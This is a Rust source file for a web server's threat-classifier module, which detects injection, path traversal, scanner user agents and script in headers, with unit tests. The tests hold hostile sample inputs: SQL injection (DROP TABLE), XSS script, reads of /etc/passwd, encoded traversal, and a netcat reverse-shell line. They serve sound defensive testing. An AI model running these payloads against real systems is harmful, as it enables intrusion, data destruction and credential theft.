//! Threat classifiers.
//!
//! Each classifier looks at one aspect of a request and either reports a
//! [`Threat`] or passes. [`ClassifierChain`] runs them in a fixed order and
//! stops at the first hit.

use std::borrow::Cow;

use axum::http::StatusCode;
use percent_encoding::percent_decode_str;
use regex::{Regex, RegexSet};
use thiserror::Error;

use crate::audit::{Details, ViolationKind};
use crate::config::ThreatPolicyConfig;
use crate::security::request::RequestDescriptor;

/// A pattern in the threat policy failed to compile.
#[derive(Debug, Error)]
#[error("invalid {field} pattern '{pattern}': {source}")]
pub struct PolicyError {
    pub field: &'static str,
    pub pattern: String,
    #[source]
    pub source: regex::Error,
}

/// A classified attack.
#[derive(Debug, Clone)]
pub struct Threat {
    pub kind: ViolationKind,
    pub status: StatusCode,
    /// Operator-facing description; never sent to the client.
    pub message: String,
    pub details: Details,
}

impl Threat {
    fn new(kind: ViolationKind, status: StatusCode, message: impl Into<String>) -> Self {
        Self {
            kind,
            status,
            message: message.into(),
            details: Details::new(),
        }
    }

    fn detail(mut self, key: &str, value: impl Into<String>) -> Self {
        self.details.insert(key.to_string(), value.into());
        self
    }
}

pub trait ThreatClassifier: Send + Sync {
    fn name(&self) -> &'static str;

    fn classify(&self, request: &RequestDescriptor) -> Option<Threat>;
}

fn compile_set(field: &'static str, patterns: &[String]) -> Result<RegexSet, PolicyError> {
    for pattern in patterns {
        compile_one(field, pattern)?;
    }
    RegexSet::new(patterns).map_err(|source| PolicyError {
        field,
        pattern: patterns.join(" | "),
        source,
    })
}

fn compile_one(field: &'static str, pattern: &str) -> Result<Regex, PolicyError> {
    Regex::new(pattern).map_err(|source| PolicyError {
        field,
        pattern: pattern.to_string(),
        source,
    })
}

/// SQL, script and shell injection in the path, query and form fields.
pub struct InjectionClassifier {
    vectors: Vec<(&'static str, RegexSet)>,
}

impl InjectionClassifier {
    pub fn new(config: &ThreatPolicyConfig) -> Result<Self, PolicyError> {
        Ok(Self {
            vectors: vec![
                ("sql", compile_set("sql", &config.sql_patterns)?),
                ("xss", compile_set("xss", &config.xss_patterns)?),
                ("command", compile_set("command", &config.command_patterns)?),
            ],
        })
    }

    /// `(location, text)` pairs to inspect, all in decoded form.
    fn targets<'a>(request: &'a RequestDescriptor) -> Vec<(Cow<'a, str>, Cow<'a, str>)> {
        let mut targets = vec![(Cow::Borrowed("path"), request.decoded_path())];
        if let Some(query) = request.decoded_query() {
            targets.push((Cow::Borrowed("query"), query));
        }
        for (name, value) in &request.query_params {
            targets.push((Cow::Owned(format!("query:{name}")), Cow::Borrowed(value)));
        }
        for (name, value) in &request.form_params {
            targets.push((Cow::Owned(format!("form:{name}")), Cow::Borrowed(value)));
        }
        targets
    }
}

impl ThreatClassifier for InjectionClassifier {
    fn name(&self) -> &'static str {
        "injection"
    }

    fn classify(&self, request: &RequestDescriptor) -> Option<Threat> {
        for (location, text) in Self::targets(request) {
            for (vector, set) in &self.vectors {
                if set.is_match(&text) {
                    return Some(
                        Threat::new(
                            ViolationKind::InjectionAttempt,
                            StatusCode::BAD_REQUEST,
                            "Potential injection attack detected",
                        )
                        .detail("vector", *vector)
                        .detail("location", location.into_owned())
                        .detail("payload", text.into_owned()),
                    );
                }
            }
        }
        None
    }
}

/// Directory traversal in the URI, raw or percent-encoded up to twice.
pub struct PathTraversalClassifier {
    patterns: Vec<Regex>,
}

impl PathTraversalClassifier {
    pub fn new(config: &ThreatPolicyConfig) -> Result<Self, PolicyError> {
        let patterns = config
            .path_traversal_patterns
            .iter()
            .map(|p| compile_one("path_traversal", p))
            .collect::<Result<_, _>>()?;
        Ok(Self { patterns })
    }
}

impl ThreatClassifier for PathTraversalClassifier {
    fn name(&self) -> &'static str {
        "path-traversal"
    }

    fn classify(&self, request: &RequestDescriptor) -> Option<Threat> {
        let raw = request.uri();
        let once = percent_decode_str(&raw).decode_utf8_lossy().into_owned();
        let twice = percent_decode_str(&once).decode_utf8_lossy().into_owned();

        for candidate in [&raw, &once, &twice] {
            for pattern in &self.patterns {
                if let Some(m) = pattern.find(candidate) {
                    let segment = offending_segment(candidate, m.start(), m.end());
                    return Some(
                        Threat::new(
                            ViolationKind::PathTraversal,
                            StatusCode::BAD_REQUEST,
                            format!("Path traversal attempt in URI segment '{segment}'"),
                        )
                        .detail("segment", segment),
                    );
                }
            }
        }
        None
    }
}

/// The `/`-delimited segment of `uri` overlapping `start..end`.
fn offending_segment(uri: &str, start: usize, end: usize) -> String {
    let is_sep = |c: char| c == '/' || c == '\\' || c == '?' || c == '&';
    let matched = &uri[start..end];
    let trimmed = matched.trim_matches(is_sep);
    let core_start = start + matched.find(trimmed).unwrap_or(0);
    let core_end = core_start + trimmed.len();

    let seg_start = uri[..core_start].rfind(is_sep).map_or(0, |i| i + 1);
    let seg_end = uri[core_end..]
        .find(is_sep)
        .map_or(uri.len(), |i| core_end + i);
    uri[seg_start..seg_end].to_string()
}

/// Missing User-Agent or a known scanner signature.
pub struct UserAgentClassifier {
    signatures: Vec<String>,
}

impl UserAgentClassifier {
    pub fn new(config: &ThreatPolicyConfig) -> Self {
        Self {
            signatures: config
                .blocked_user_agents
                .iter()
                .map(|s| s.to_ascii_lowercase())
                .collect(),
        }
    }
}

impl ThreatClassifier for UserAgentClassifier {
    fn name(&self) -> &'static str {
        "user-agent"
    }

    fn classify(&self, request: &RequestDescriptor) -> Option<Threat> {
        let ua = match request.user_agent().map(str::trim) {
            Some(ua) if !ua.is_empty() => ua,
            _ => {
                return Some(Threat::new(
                    ViolationKind::SuspiciousUserAgent,
                    StatusCode::FORBIDDEN,
                    "Missing User-Agent header",
                ))
            }
        };

        let lowered = ua.to_ascii_lowercase();
        self.signatures
            .iter()
            .find(|sig| lowered.contains(sig.as_str()))
            .map(|sig| {
                Threat::new(
                    ViolationKind::SuspiciousUserAgent,
                    StatusCode::FORBIDDEN,
                    "Potential bot or scanner detected",
                )
                .detail("signature", sig.clone())
                .detail("userAgent", ua)
            })
    }
}

/// Classifiers run in order: injection, traversal, user agent.
pub struct ClassifierChain {
    classifiers: Vec<Box<dyn ThreatClassifier>>,
}

impl ClassifierChain {
    pub fn from_config(config: &ThreatPolicyConfig) -> Result<Self, PolicyError> {
        Ok(Self {
            classifiers: vec![
                Box::new(InjectionClassifier::new(config)?),
                Box::new(PathTraversalClassifier::new(config)?),
                Box::new(UserAgentClassifier::new(config)),
            ],
        })
    }

    /// First threat any classifier reports.
    pub fn first_threat(&self, request: &RequestDescriptor) -> Option<Threat> {
        self.classifiers.iter().find_map(|c| {
            let threat = c.classify(request)?;
            tracing::debug!(classifier = c.name(), kind = %threat.kind, "Threat classified");
            Some(threat)
        })
    }
}

/// Non-blocking check for oversized headers and script content in proxy headers.
pub struct SuspiciousHeaderDetector {
    headers: Vec<String>,
    max_length: usize,
    script: Regex,
}

impl SuspiciousHeaderDetector {
    pub fn new(config: &ThreatPolicyConfig) -> Result<Self, PolicyError> {
        Ok(Self {
            headers: config.inspected_headers.clone(),
            max_length: config.max_header_length,
            script: compile_one("header", r"(?i)<\s*script|javascript\s*:")?,
        })
    }

    /// Reason the request's headers look suspicious, if any.
    pub fn inspect(&self, request: &RequestDescriptor) -> Option<String> {
        for (name, value) in request.headers.iter() {
            if value.len() > self.max_length {
                return Some(format!("Oversized {name} header ({} bytes)", value.len()));
            }
        }
        for name in &self.headers {
            for value in request.headers.get_all(name.as_str()) {
                if self.script.is_match(&String::from_utf8_lossy(value.as_bytes())) {
                    return Some(format!("Script content in {name} header"));
                }
            }
        }
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use axum::http::Method;

    fn config() -> ThreatPolicyConfig {
        ThreatPolicyConfig::default()
    }

    fn get(uri: &str) -> RequestDescriptor {
        RequestDescriptor::new(Method::GET, uri).with_header("User-Agent", "Mozilla/5.0")
    }

    #[test]
    fn test_sql_injection_in_query() {
        let c = InjectionClassifier::new(&config()).unwrap();
        let threat = c
            .classify(&get("/api/skills?search=%27%3B%20DROP%20TABLE%20users%3B%20--"))
            .unwrap();
        assert_eq!(threat.kind, ViolationKind::InjectionAttempt);
        assert_eq!(threat.status, StatusCode::BAD_REQUEST);
        assert_eq!(threat.details.get("vector").map(String::as_str), Some("sql"));
    }

    #[test]
    fn test_xss_and_command_injection() {
        let c = InjectionClassifier::new(&config()).unwrap();
        let xss = c
            .classify(&get("/api/skills?q=%3Cscript%3Ealert('xss')%3C%2Fscript%3E"))
            .unwrap();
        assert_eq!(xss.details.get("vector").map(String::as_str), Some("xss"));

        let cmd = c
            .classify(&get("/api/skills").with_form_param("cmd", "ls -la; cat /etc/passwd"))
            .unwrap();
        assert_eq!(cmd.details.get("vector").map(String::as_str), Some("command"));
        assert_eq!(cmd.details.get("location").map(String::as_str), Some("form:cmd"));
    }

    #[test]
    fn test_benign_requests_pass() {
        let chain = ClassifierChain::from_config(&config()).unwrap();
        for uri in [
            "/api/skills?search=rust&page=2",
            "/api/users/123",
            "/api/messages?from=alice&text=see+you+at+5",
            "/api/files/report.v2.pdf",
        ] {
            assert!(chain.first_threat(&get(uri)).is_none(), "{uri}");
        }
    }

    #[test]
    fn test_message_prose_passes() {
        let chain = ClassifierChain::from_config(&config()).unwrap();
        for text in [
            "Done; update me tomorrow",
            "I like dogs; cat videos too",
            "it's fine; select any slot",
            "Sure && id card is ready",
            "Please delete from my notes later, and insert into the doc whatever fits",
            "Me too; ls is my favourite command name",
        ] {
            let request = RequestDescriptor::new(Method::POST, "/api/messages")
                .with_header("User-Agent", "Mozilla/5.0")
                .with_form_param("text", text);
            assert!(chain.first_threat(&request).is_none(), "{text}");
        }
    }

    #[test]
    fn test_statement_context_is_still_caught() {
        let c = InjectionClassifier::new(&config()).unwrap();
        for (text, vector) in [
            ("x; select password from users", "sql"),
            ("1; update accounts set balance = 0", "sql"),
            ("delete from users where 1=1", "sql"),
            ("a; cat /etc/passwd", "command"),
            ("a && whoami", "command"),
            ("a | nc -e /bin/sh 10.0.0.1 4444", "command"),
        ] {
            let request = get("/api/messages").with_form_param("text", text);
            let threat = c.classify(&request).unwrap_or_else(|| panic!("{text}"));
            assert_eq!(threat.details.get("vector").map(String::as_str), Some(vector), "{text}");
        }
    }

    #[test]
    fn test_path_traversal_forms() {
        let c = PathTraversalClassifier::new(&config()).unwrap();
        for uri in [
            "/api/files/../../../etc/passwd",
            "/api/files/%2e%2e/%2e%2e/etc/passwd",
            "/api/files/%252e%252e%252fetc",
            "/api/files/..%5c..%5cwindows",
            "/api/files/..",
        ] {
            let threat = c.classify(&get(uri)).unwrap_or_else(|| panic!("{uri}"));
            assert_eq!(threat.kind, ViolationKind::PathTraversal);
        }
        assert!(c.classify(&get("/api/files/a..b/c")).is_none());
    }

    #[test]
    fn test_traversal_message_names_segment() {
        let c = PathTraversalClassifier::new(&config()).unwrap();
        let threat = c.classify(&get("/api/files/../secret")).unwrap();
        assert_eq!(threat.details.get("segment").map(String::as_str), Some(".."));
        assert!(threat.message.contains("'..'"));
    }

    #[test]
    fn test_user_agent() {
        let c = UserAgentClassifier::new(&config());
        assert!(c.classify(&get("/")).is_none());

        let missing = c.classify(&RequestDescriptor::new(Method::GET, "/")).unwrap();
        assert_eq!(missing.status, StatusCode::FORBIDDEN);
        assert_eq!(missing.message, "Missing User-Agent header");

        let scanner = RequestDescriptor::new(Method::GET, "/").with_header("User-Agent", "sqlmap/1.4.7");
        let threat = c.classify(&scanner).unwrap();
        assert_eq!(threat.details.get("signature").map(String::as_str), Some("sqlmap"));

        let curl = RequestDescriptor::new(Method::GET, "/").with_header("User-Agent", "curl/8.4.0");
        assert!(c.classify(&curl).is_none());
    }

    #[test]
    fn test_chain_order() {
        let chain = ClassifierChain::from_config(&config()).unwrap();
        // Injection outranks the scanner user agent.
        let req = RequestDescriptor::new(Method::GET, "/api?q=%27%20OR%20%271%27%3D%271")
            .with_header("User-Agent", "sqlmap/1.4.7");
        assert_eq!(
            chain.first_threat(&req).unwrap().kind,
            ViolationKind::InjectionAttempt
        );
    }

    #[test]
    fn test_invalid_pattern() {
        let mut cfg = config();
        cfg.sql_patterns.push("(unclosed".into());
        let err = ClassifierChain::from_config(&cfg).err().unwrap();
        assert_eq!(err.field, "sql");
        assert_eq!(err.pattern, "(unclosed");
    }

    #[test]
    fn test_suspicious_headers() {
        let d = SuspiciousHeaderDetector::new(&config()).unwrap();
        assert!(d.inspect(&get("/").with_header("X-Forwarded-Host", "example.com")).is_none());

        let script = get("/").with_header("X-Forwarded-Host", "<script>x</script>");
        assert!(d.inspect(&script).unwrap().contains("X-Forwarded-Host"));

        let huge = get("/").with_header("X-Custom", &"a".repeat(9000));
        assert!(d.inspect(&huge).unwrap().starts_with("Oversized x-custom"));
    }
}
